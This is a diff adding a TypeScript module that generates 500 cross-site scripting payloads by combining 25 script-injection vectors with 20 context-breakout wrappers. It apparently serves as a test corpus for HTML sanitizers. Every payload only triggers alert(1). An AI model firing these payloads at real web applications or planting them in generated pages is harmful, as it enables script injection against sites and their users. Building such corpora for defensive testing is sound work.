@@ -1,0 +1,55 @@
+/** What runs where a text is taken for markup, for an attribute, for a script or for an address. */
+const vectors = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<iframe srcdoc="<script>parent.alert(1)</script>">',
+  '<details open ontoggle=alert(1)>',
+  '<a href="javascript:alert(1)" autofocus onfocus=alert(1)>x</a>',
+  '<input autofocus onfocus=alert(1)>',
+  '<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style>',
+  '<object data="javascript:alert(1)">',
+  '<i onmouseover=alert(1) style="position:fixed;inset:0">x</i>',
+  '<sub><img src=x onerror=alert(1)></sub>',
+  '<b/onclick=alert(1)>x</b>',
+  '&lt;img src=x onerror=alert(1)&gt;',
+  '&#60;img src=x onerror=alert(1)&#62;',
+  '\uE000<img src=x onerror=alert(1)>\uE001',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<img src="x` `<script>alert(1)</script>"` `>',
+  '{{constructor.constructor("alert(1)")()}}',
+  '{{{this}}}<img src=x onerror=alert(1)>',
+  '＜script＞alert(1)＜/script＞',
+  '<style>@import "data:text/css,*{background:url(javascript:alert(1))}"</style>',
+  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
+  '<base href="javascript:alert(1)//">',
+  'javascript:alert(1)',
+] as const;
+
+/** How a text gets out of where it was put. */
+const waysOut: readonly ((vector: string) => string)[] = [
+  (vector) => vector,
+  (vector) => `">${vector}`,
+  (vector) => `'>${vector}`,
+  (vector) => `" onmouseover=alert(1) autofocus onfocus=alert(1) x="${vector}`,
+  (vector) => `' onmouseover=alert(1) autofocus onfocus=alert(1) x='${vector}`,
+  (vector) => `</title>${vector}`,
+  (vector) => `</textarea>${vector}`,
+  (vector) => `</script>${vector}`,
+  (vector) => `--><!--${vector}`,
+  (vector) => `]]>${vector}`,
+  (vector) => `</style>${vector}`,
+  (vector) => `</option></select>${vector}`,
+  (vector) => `<i>${vector}</i>`,
+  (vector) => `<sup>${vector}`,
+  (vector) => `${vector}<i>`,
+  (vector) => vector.toUpperCase().replaceAll('ALERT', 'alert'),
+  (vector) => vector.replaceAll('<', '< ').replaceAll('< /', '</ '),
+  (vector) => vector.replaceAll(' ', '/'),
+  (vector) => `\u0000${vector}\u2028`,
+  (vector) => `${vector}\\"-alert(1)}//`,
+];
+
+/** Five hundred texts that try to run a script. */
+export const hostileTexts: readonly string[] = waysOut.flatMap((wayOut) => vectors.map(wayOut));
